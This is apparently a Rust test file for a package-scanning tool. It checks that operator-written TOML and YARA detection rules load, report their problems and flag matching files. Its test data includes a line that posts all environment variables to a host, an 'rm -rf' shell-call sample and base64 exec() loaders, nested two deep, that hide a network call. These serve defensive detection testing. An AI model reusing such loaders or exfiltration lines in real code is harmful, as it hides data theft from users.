use std::fmt::Write as _;

use sigma_core::{Digests, DistributionKind, DistributionReport, Sha1, Sha256, Sha512};

use super::*;
use crate::{Analyser, Limits, RULESET};

fn load(files: &[(&str, &str)]) -> Result<OperatorRules, RuleProblems> {
    let files = files.iter().map(|(name, text)| RuleFile { name: (*name).into(), bytes: text.as_bytes().to_vec() });
    OperatorRules::load(files.collect())
}

/// The problems of one file, one a line.
fn problems(name: &str, text: &str) -> String {
    load(&[(name, text)]).unwrap_err().0.iter().map(|problem| format!("{problem}\n")).collect()
}

fn analyse(rules: OperatorRules, kind: DistributionKind, files: &[(&str, &[u8])]) -> DistributionReport {
    let digests = Digests {
        sha256: Sha256::of(b""),
        sha512: Sha512::from_bytes([0; 64]),
        sha1: Sha1::from_bytes([0; 20]),
        size: 0,
    };
    Analyser::with_rules(Limits::default(), rules).analyse_files(None, kind, "demo", digests, files).report
}

/// Findings of the operator's rules, one a line.
fn local(report: &DistributionReport) -> String {
    let mut out = String::new();
    for one in report.findings.iter().filter(|finding| finding.rule.starts_with(PREFIX)) {
        let _ = writeln!(
            out,
            "{} {:?} {:?} {}:{} `{}` {}",
            one.rule, one.severity, one.reach, one.file, one.line, one.evidence, one.message
        );
    }
    out
}

const BEACON: &str = r#"
[[rule]]
id = "acme-beacon"
severity = "high"
category = "network"
message = "Talks to the retired telemetry host."
why = "The host is no longer ours."
exclude = ["**/vendored/**"]

[rule.match]
all = [
  { call = ["acme.upload", "requests.*"], argument = { contains = "telemetry.acme.test" } },
  { not = { import = "acme_internal" } },
]

[[rule.hit]]
path = "demo/a.py"
text = "import requests\nrequests.post('https://telemetry.acme.test/x')\n"

[[rule.miss]]
path = "demo/a.py"
text = "import acme_internal, requests\nrequests.post('https://telemetry.acme.test/x')\n"
"#;

#[test]
fn a_declared_rule_reports_like_any_other() {
    let source = b"import acme, requests\n\ndef f():\n    acme.upload('telemetry.acme.test')\nrequests.get('https://telemetry.acme.test/')\n";
    let files: &[(&str, &[u8])] = &[("demo/a.py", source), ("demo/vendored/b.py", source), ("tests/test_c.py", source)];
    let rules = load(&[("acme.toml", BEACON)]).unwrap();
    let report = analyse(rules, DistributionKind::Wheel, files);
    insta::assert_snapshot!(local(&report), @"
    local/acme-beacon High Test tests/test_c.py:4 `acme.upload('telemetry.acme.test')` Talks to the retired telemetry host.
    local/acme-beacon High Test tests/test_c.py:5 `requests.get('https://telemetry.acme.test/')` Talks to the retired telemetry host.
    local/acme-beacon High Call demo/a.py:4 `acme.upload('telemetry.acme.test')` Talks to the retired telemetry host.
    local/acme-beacon High Import demo/a.py:5 `requests.get('https://telemetry.acme.test/')` Talks to the retired telemetry host.
    ");
    assert_eq!(report.rule_hits["local/acme-beacon"], 4);
    assert_eq!(report.coverage.cited["demo/a.py"], Sha256::of(source));
}

#[test]
fn rules_see_what_a_file_decodes_and_runs() {
    let inner = "import requests\nrequests.get('https://telemetry.acme.test/')  # ACME-MARKER-1\n";
    let once = format!("exec(__import__('base64').b64decode('{}'))\n", data_encoding::BASE64.encode(inner.as_bytes()));
    let twice = format!(
        "import base64\n\ndef f():\n    exec(base64.b64decode('{}'))\n",
        data_encoding::BASE64.encode(once.as_bytes())
    );
    let rules = load(&[("acme.toml", BEACON), ("acme.yar", YARA)]).unwrap();
    let files: &[(&str, &[u8])] = &[("demo/a.py", once.as_bytes()), ("demo/b.py", twice.as_bytes())];
    insta::assert_snapshot!(local(&analyse(rules, DistributionKind::Wheel, files)), @"
    local/acme-beacon High Call demo/b.py:4 `decoded layer 2: requests.get('https://telemetry.acme.test/')` Talks to the retired telemetry host.
    local/acme-beacon High Import demo/a.py:1 `decoded layer 1: requests.get('https://telemetry.acme.test/')` Talks to the retired telemetry host.
    local/acme_marker Critical Call demo/b.py:4 `decoded layer 2: $a: ACME-MARKER-1` Holds the marker of the acme incident. See https://acme.test/incident.
    local/acme_marker Critical Import demo/a.py:1 `decoded layer 1: $a: ACME-MARKER-1` Holds the marker of the acme incident. See https://acme.test/incident.
    ");
}

#[test]
fn every_kind_of_condition_holds_and_fails() {
    let hits = |condition: &str, path: &str, text: &str| {
        let escaped = text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
        let rule = format!(
            "[[rule]]\nid = \"x\"\nseverity = \"low\"\ncategory = \"network\"\nmessage = \"m\"\nmatch = {condition}\n\
             [[rule.hit]]\npath = \"{path}\"\ntext = \"{escaped}\"\n[[rule.miss]]\npath = \"a.py\"\ntext = \"pass\"\n"
        );
        match load(&[("x.toml", &rule)]) {
            Ok(_) => true,
            Err(problems) => {
                assert!(problems.to_string().contains("its hit example"), "{problems}");
                false
            }
        }
    };
    let check = |condition: &str, path: &str, hit: &str, miss: &str| {
        assert!(hits(condition, path, hit), "{condition}: {hit}");
        assert!(!hits(condition, path, miss), "{condition}: {miss}");
    };
    check(r#"{ import = "acme*" }"#, "a.py", "import acme_tools\n", "import other\n");
    check(r#"{ host = "*.acme.test" }"#, "a.js", "fetch('https://a.acme.test/x')\n", "fetch('https://acme.test/x')\n");
    check(r#"{ environment = "ACME_*" }"#, "a.js", "x = process.env.ACME_KEY\n", "x = process.env.KEY\n");
    check(
        r#"{ from = "env-all", to = "net" }"#,
        "a.py",
        "import os, requests\nrequests.post('http://a.test', data=str(dict(os.environ)))\n",
        "import requests\nrequests.post('http://a.test')\n",
    );
    check(
        r#"{ call = "os.system", argument = { regex = "rm +-rf" } }"#,
        "a.py",
        "import os\nos.system('rm  -rf x')\n",
        "import os\nos.system('ls')\n",
    );
    check(
        r#"{ call = "os.system", argument = { equals = "ls" } }"#,
        "a.py",
        "import os\nos.system('ls')\n",
        "import os\nos.system('ls -l')\n",
    );
    check(r#"{ text = ["four", "five"] }"#, "a.txt", "five\n", "six\n");
    check(r#"{ regex = "acme-[0-9]{3}" }"#, "a.cfg", "key = acme-123\n", "key = acme-12\n");
    check(r#"{ any = [{ text = "nothing here" }, { import = "acme" }] }"#, "a.py", "import acme\n", "import other\n");
    check(r#"{ all = [{ text = "acme" }, { not = { text = "kind" } }] }"#, "a.md", "acme\n", "acme is kind\n");
    // A name of its own in a package that the table of APIs does not know.
    check(r#"{ call = "@acme/sdk.send" }"#, "a.js", "require('@acme/sdk').send(1)\n", "require('@acme/sdk').get(1)\n");
}

#[test]
fn what_is_wrong_is_said_with_its_place() {
    let mut said = String::new();
    let mut check = |name: &str, text: &str| {
        let _ = writeln!(said, "{}", problems(name, text));
    };
    check("a.toml", "[[rule]]\nid = \"x\"\nlevel = \"high\"\n");
    check("a.toml", "[[rule]\n");
    check("a.toml", "# none\n");
    let wrong = BEACON
        .replace("acme-beacon", "Acme Beacon")
        .replace("network", "nettwork")
        .replace("{ not = { import = \"acme_internal\" } }", "{ text = \"abc\" }, { import = \"*\" }, { from = \"sky\" }, { text = \"long enough\", regex = \"x\" }, { regex = \"(?u)a\" }, { regex = \"(a\" }, {}");
    check("a.toml", &wrong);
    let silent =
        BEACON.replace("requests.post('https://telemetry.acme.test/x')\\n\"\n\n[[rule.miss", "\"\n\n[[rule.miss");
    check("a.toml", &silent);
    let eager = BEACON.replace("import acme_internal, requests", "import requests");
    check("a.toml", &eager);
    let bare = BEACON.split("[[rule.hit]]").next().unwrap();
    check("a.toml", bare);
    let shadow = BEACON.replace("acme-beacon", "network-client");
    check("a.toml", &shadow);
    let negative = BEACON.replace(
        "{ call = [\"acme.upload\", \"requests.*\"], argument = { contains = \"telemetry.acme.test\" } },",
        "",
    );
    check("a.toml", &negative);
    let both = load(&[("a.toml", BEACON), ("b.toml", BEACON)]).unwrap_err().to_string();
    let latin =
        OperatorRules::load(vec![RuleFile { name: "l.toml".into(), bytes: b"# caf\xe9".to_vec() }]).unwrap_err();
    said.push_str(&format!("{both}\n\n{latin}\n"));
    insta::assert_snapshot!(said);
    let deep = format!("[[rule]]\nmatch = {}{}\n", "{not=".repeat(5_000), "}".repeat(5_000));
    assert!(problems("deep.toml", &deep).contains("deep.toml:"));
}

const YARA: &str = r#"
rule acme_marker {
    meta:
        description = "Holds the marker of the acme incident."
        severity = "critical"
        category = "obfuscation"
        reference = "https://acme.test/incident"
    strings:
        $a = "ACME-MARKER-1"
        $b = { 41 43 4d 45 00 ?? 01 }
    condition:
        any of them
}
private rule hidden { condition: filesize > 0 }
"#;

#[test]
fn a_yara_rule_reads_text_and_bytes() {
    let rules = load(&[("acme.yar", YARA)]).unwrap();
    assert_eq!(rules.entries().len(), 1);
    let utf16: Vec<u8> = "\u{feff}x = 1\n# ACME-MARKER-1\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let files: &[(&str, &[u8])] = &[
        ("demo/a.py", b"x = 1\n# ACME-MARKER-1 and more\n"),
        ("demo/b.bin", b"\0\0ACME\0\x07\x01"),
        ("demo/lib.so", b"\x7fELF\x02\x01ACME-MARKER-1"),
        ("demo/wide.py", &utf16),
        ("demo/clean.py", b"x = 1\n"),
    ];
    insta::assert_snapshot!(local(&analyse(rules, DistributionKind::Wheel, files)));
}

#[test]
fn what_yara_may_not_do_is_refused() {
    let wrong = [
        "include \"other.yar\"\n",
        "import \"console\"\nrule a { condition: true }\n",
        "import \"time\"\nrule a { condition: time.now() > 0 }\n",
        "rule a {\n  strings: $a = \"x\n  condition: $a\n}\n",
        "rule a {\n meta: severity = \"bad\" category = \"fish\"\n condition: true\n}\n",
        "rule network_client { condition: true }\n",
    ];
    let said: String = wrong.iter().map(|text| problems("a.yar", text)).collect();
    insta::assert_snapshot!(said);
}

#[test]
fn the_ruleset_names_what_ran() {
    assert_eq!(Analyser::new(Limits::default()).ruleset(), RULESET);
    let named =
        |files: &[(&str, &str)]| Analyser::with_rules(Limits::default(), load(files).unwrap()).ruleset().to_owned();
    let one = named(&[("rules/acme.toml", BEACON)]);
    assert!(one.starts_with(&format!("{RULESET}+local.")) && one.len() == RULESET.len() + 15, "{one}");
    assert_eq!(one, named(&[("elsewhere/acme.toml", BEACON)]), "the folder does not matter");
    assert_eq!(named(&[("a.yar", YARA), ("acme.toml", BEACON)]), named(&[("acme.toml", BEACON), ("a.yar", YARA)]));
    assert_ne!(one, named(&[("acme.toml", &BEACON.replace("high", "low"))]));
}

#[test]
fn built_in_rules_say_the_same_beside_them() {
    let files: &[(&str, &[u8])] =
        &[("demo/a.py", b"import os, base64\nexec(base64.b64decode('cGFzcw=='))\nos.system('ls')\n")];
    let plain = analyse(OperatorRules::default(), DistributionKind::Wheel, files);
    let both = analyse(load(&[("acme.toml", BEACON), ("a.yar", YARA)]).unwrap(), DistributionKind::Wheel, files);
    assert_eq!(plain, both);
}

#[test]
fn words_are_those_of_the_facts() {
    use crate::facts::{Effects, Taint};
    assert!(document::EFFECTS.iter().all(|word| Effects::of_word(word).is_some()));
    assert!(document::TAINTS.iter().all(|word| Taint::of_word(word).is_some()));
    assert!(document::CATEGORIES.iter().all(|word| document::category(word).is_some()));
    assert_eq!(document::category("import"), None);
}

proptest::proptest! {
    /// Whatever an editor or a merge leaves of a rule file: it is loaded or refused with a place, and nothing else.
    #[test]
    fn a_broken_rule_file_is_refused_and_nothing_worse(at in 0.0..1.0, length in 0_usize..30, more in "[\\PC\n]{0,6}") {
        for (name, text) in [("a.toml", BEACON), ("a.yar", YARA)] {
            let start = (text.len() as f64 * at) as usize;
            let end = (start + length).min(text.len());
            let broken = format!("{}{more}{}", &text[..start], &text[end..]);
            if let Err(problems) = load(&[(name, &broken)]) {
                assert!(!problems.0.is_empty() && problems.0.iter().all(|problem| problem.file == name));
            }
        }
    }
}
